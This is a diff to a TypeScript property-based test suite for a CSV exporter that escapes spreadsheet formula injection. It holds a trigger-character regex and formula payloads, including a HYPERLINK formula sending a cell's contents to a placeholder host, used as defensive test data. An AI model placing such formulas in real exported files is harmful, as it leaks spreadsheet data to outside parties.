@@ -25,6 +25,16 @@ const recordsOf = (csv: string): Record<string, string>[] =>
     skipEmptyLines: true,
   }).data;
 
+/** The very words: without the one apostrophe that keeps spreadsheets from running them. */
+const withoutApostrophe = (cell: string): string =>
+  /^'+(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫⁺⁼−])/u.test(cell) ? cell.slice(1) : cell;
+const cells = fc.oneof(
+  strings,
+  fc
+    .tuple(fc.constantFrom("'", "''", ' ', ''), fc.constantFrom('=', '-', '@', '\t', '"', ','), strings)
+    .map((all) => all.join('')),
+);
+
 describe('comma-separated values', () => {
   test('begin with a byte-order mark and end each row with CRLF', () => {
     expect(toCommaSeparated(['a', 'b'], [['один', 2]])).toBe('\ufeffa,b\r\nодин,2\r\n');
@@ -32,15 +42,9 @@ describe('comma-separated values', () => {
 
   test('are read back as they were, whatever the cells hold, but for the apostrophe before a formula', () => {
     fc.assert(
-      fc.property(fc.array(fc.tuple(strings, strings, fc.nat()), { maxLength: 5 }), (rows) => {
+      fc.property(fc.array(fc.tuple(cells, strings, fc.nat()), { maxLength: 5 }), (rows) => {
         const read = rowsOf(toCommaSeparated(['x', 'y', 'z'], rows)).slice(1);
-        expect(
-          read.map((row) => row.map((cell, at) => (at < 2 && cell.startsWith("'") ? cell.slice(1) : cell))),
-        ).toEqual(
-          rows.map((row) =>
-            row.map((cell) => (typeof cell === 'string' && cell.startsWith("'") ? cell.slice(1) : String(cell))),
-          ),
-        );
+        expect(read.map((row) => row.map(withoutApostrophe))).toEqual(rows.map((row) => row.map(String)));
       }),
       { numRuns: 500 },
     );
@@ -63,6 +67,7 @@ describe('comma-separated values', () => {
     ['－1+1'],
     ['＠SUM(1)'],
     ['−1+1'],
+    ["'=1"],
     ['=HYPERLINK("https://x.example?"&A1,"click")'],
   ])('take the formula out of %j', (cell) => {
     expect(rowsOf(toCommaSeparated(['x'], [[cell]]))[1]).toEqual([`'${cell}`]);
